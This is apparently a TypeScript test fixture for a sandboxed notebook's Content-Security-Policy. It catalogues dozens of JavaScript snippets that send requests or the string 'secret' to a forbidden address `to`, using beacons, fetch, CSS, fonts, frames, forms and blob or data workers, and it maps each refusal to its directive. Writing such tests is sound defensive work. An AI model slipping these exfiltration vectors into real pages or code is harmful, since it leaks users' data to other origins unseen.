/**
 * Ways in which a cell might send something to another origin. Each is the body of a function of `to`, the address that
 * must never be asked for, in the browser's own words; all of them reach it on a page
 * without a policy.
 */
export const attacks: Readonly<Record<string, string>> = {
  fetch: `fetch(to, {mode: "no-cors"}).catch(() => {})`,
  "post-after-leaving": `fetch(to, {mode: "no-cors", method: "POST", body: "secret", keepalive: true}).catch(() => {})`,
  "fetch-later": `fetchLater(to, {activateAfter: 0})`,
  "xml-http-request": `const request = new XMLHttpRequest(); request.open("POST", to); request.send("secret")`,
  "web-socket": `new WebSocket(to.replace("http", "ws"))`,
  "event-source": `new EventSource(to)`,
  beacon: `navigator.sendBeacon(to, "secret")`,
  "link-ping": `const a = add("a", {href: "#there", ping: to}); a.textContent = "link"; a.click()`,

  image: `new Image().src = to`,
  "image-set": `new Image().srcset = to + " 2x"`,
  "input-image": `add("input", {type: "image", src: to})`,
  "svg-image": `addSvg('<image href="' + to + '" width="9" height="9"/>')`,
  "svg-filter-image": `addSvg('<filter id="f"><feImage href="' + to + '"/></filter><rect width="9" height="9" filter="url(#f)"/>')`,
  "css-background": `add("div", {style: "width: 9px; height: 9px; background: url(" + to + ")"})`,
  "css-mask": `add("div", {style: "width: 9px; height: 9px; mask-image: url(" + to + ")"})`,
  "css-content": `add("div", {style: "content: url(" + to + ")"})`,
  "list-marker": `add("li", {style: "display: list-item; list-style: url(" + to + ")"})`,

  "style-link": `add("link", {rel: "stylesheet", href: to})`,
  "style-import": `add("style", {}).textContent = "@import url(" + to + ")"`,
  font: `new FontFace("stolen", "url(" + to + ")").load().catch(() => {})`,
  "font-rule": `add("style", {}).textContent = "@font-face { font-family: taken; src: url(" + to + ") }"; add("p", {style: "font-family: taken"}).textContent = "text"`,

  script: `add("script", {src: to})`,
  "module-script": `add("script", {type: "module", src: to})`,
  "module-import": `new Function("to", "return import(to)")(to).catch(() => {})`,
  "audio-worklet": `new AudioContext().audioWorklet.addModule(to).catch(() => refuse("script-src", to))`,

  video: `add("video", {src: to, preload: "auto"})`,
  audio: `add("audio", {src: to, preload: "auto"})`,
  poster: `add("video", {poster: to})`,
  track: `const video = add("video", {}); video.crossOrigin = ""; const track = document.createElement("track"); track.src = to; track.default = true; video.append(track); track.track.mode = "showing"`,

  prefetch: `add("link", {rel: "prefetch", href: to})`,
  "preload-fetch": `add("link", {rel: "preload", as: "fetch", href: to, crossorigin: ""})`,
  "preload-image": `add("link", {rel: "preload", as: "image", href: to})`,
  "preload-module": `add("link", {rel: "modulepreload", href: to})`,

  frame: `add("iframe", {src: to})`,
  object: `add("object", {data: to, type: "image/svg+xml"})`,
  embed: `add("embed", {src: to})`,
  form: `add("iframe", {name: "answer"}); const form = add("form", {action: to, method: "post", target: "answer"}); form.submit()`,
  "form-get": `add("iframe", {name: "reply"}); const form = add("form", {action: to, target: "reply"}); form.submit()`,

  "empty-frame": `watch(add("iframe", {}).contentWindow).fetch(to, {mode: "no-cors"}).catch(() => {})`,
  "written-frame": `const frame = add("iframe", {}); const inner = watch(frame.contentWindow); inner.document.body.append(Object.assign(inner.document.createElement("img"), {src: to}))`,

  // Through a context of the cell's own, which the policy refuses as a whole.
  "worker-fetch": `new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "', {mode: 'no-cors'})"])))`,
  "worker-import": `new Worker(URL.createObjectURL(new Blob(["importScripts('" + to + "')"])))`,
  "shared-worker": `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + to + "', {mode: 'no-cors'})"])))`,
  "data-worker": `new Worker("data:text/javascript," + encodeURIComponent("fetch('" + to + "', {mode: 'no-cors'})"))`,
  "blob-module": `add("script", {type: "module", src: URL.createObjectURL(new Blob(["fetch('" + to + "', {mode: 'no-cors'})"], {type: "text/javascript"}))})`,
  "data-frame": `add("iframe", {src: "data:text/html," + encodeURIComponent("<img src='" + to + "'>")})`,
  // A file of the site brings no policy with it, so a window on it would be free.
  "frame-on-a-file": `const frame = add("iframe", {src: "/favicon.svg"}); frame.onload = () => frame.contentWindow.fetch(to, {mode: "no-cors"})`,
};

/** Attacks whose refusal the browser reports otherwise than by the address that was asked for. */
export const reportedAs: Readonly<Record<string, (origin: string) => string>> = {
  frame: (origin) => `frame-src ${origin}`,
  object: (origin) => `object-src ${origin}`,
  embed: (origin) => `object-src ${origin}`,
  "worker-fetch": () => "worker-src blob",
  "worker-import": () => "worker-src blob",
  "shared-worker": () => "worker-src blob",
  "data-worker": () => "worker-src data",
  "blob-module": () => "script-src-elem blob",
  // A scheme without a host is not named.
  "data-frame": () => "frame-src ",
  "frame-on-a-file": () => "frame-src /favicon.svg",
};

/** What the attacks use; `watch` also hears what the policy refuses inside a frame. */
export const attackHelpers = `
const refuse = (directive, address) => window.refused.push(directive + " " + address);
const watch = (scope) => {
  const hear = ({effectiveDirective, blockedURI}) => refuse(effectiveDirective, blockedURI);
  scope.document.addEventListener("securitypolicyviolation", hear);
  return scope;
};
const add = (name, attributes) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  document.body.append(made);
  return made;
};
const addSvg = (content) => {
  add("div", {}).innerHTML = '<svg width="9" height="9">' + content + "</svg>";
};`;
